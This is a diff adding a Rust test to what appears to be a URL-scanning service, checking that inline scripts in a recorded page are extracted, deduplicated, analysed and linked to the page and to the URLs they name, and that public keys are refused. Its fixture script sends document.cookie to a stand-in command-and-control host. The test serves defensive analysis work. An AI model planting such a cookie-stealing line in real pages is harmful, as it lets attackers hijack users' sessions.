@@ -265,3 +265,33 @@ async fn several_urls_at_once_cost_a_request_each() {
     let quotas = service.get("/users/premium/overall_quotas", &key).await;
     assert_eq!(quotas.json["data"]["api_requests_daily"]["user"]["used"], 3);
 }
+
+#[tokio::test]
+async fn the_scripts_that_stand_in_a_page_become_files_and_lead_to_it() {
+    const PAGE: &str = "https://scripts.site.example/";
+    let script = "var c2 = 'http://c2.site.example/gate.php'; document.location = c2 + '?' + document.cookie;";
+    let body = format!("<html><script>{script}</script><script>{script}</script><script>tiny()</script></html>");
+    let hops = vec![hop(PAGE, 200, &[("content-type", "text/html")])];
+    let web = Recorded::default().with(&url(PAGE), Fetched { hops, body: Bytes::from(body), unfinished: None });
+    let web = assay_web::open(Config::Recorded(web)).expect("a web");
+    let service = Service::start_on(limits(100_000, 1_000_000, 10_000_000), Some(web)).await;
+    let (key, public) = (service.key("premium").await, service.key("public").await);
+    service.submit(&key, PAGE).await;
+    service.work().await;
+
+    let id = url(PAGE).id();
+    let scripts = service.get(&format!("/urls/{id}/embedded_js_files"), &key).await.json;
+    assert_eq!(scripts["meta"]["count"], 1, "{scripts}");
+    let file = &scripts["data"][0];
+    assert_eq!(file["id"], assay_model::Sha256::of(script.as_bytes()).to_string());
+    assert_eq!(file["attributes"]["names"], serde_json::json!(["inline-1.js"]));
+    assert!(file["attributes"]["last_analysis_date"].is_i64(), "it was analysed: {file}");
+    let file = file["id"].as_str().expect("an id");
+    let holders = service.get(&format!("/files/{file}/urls_for_embedded_js"), &key).await.json;
+    let context = &holders["data"][0]["context_attributes"];
+    let said = serde_json::json!([context["url"], context["filename"], context["embedded"], context["download_url"]]);
+    assert_eq!(said, serde_json::json!([PAGE, "inline-1.js", true, PAGE]));
+    let named = service.get(&format!("/files/{file}/embedded_urls"), &key).await.json;
+    assert_eq!(named["data"][0]["context_attributes"]["url"], "http://c2.site.example/gate.php");
+    assert_eq!(service.get(&format!("/urls/{id}/embedded_js_files"), &public).await.status, 403);
+}
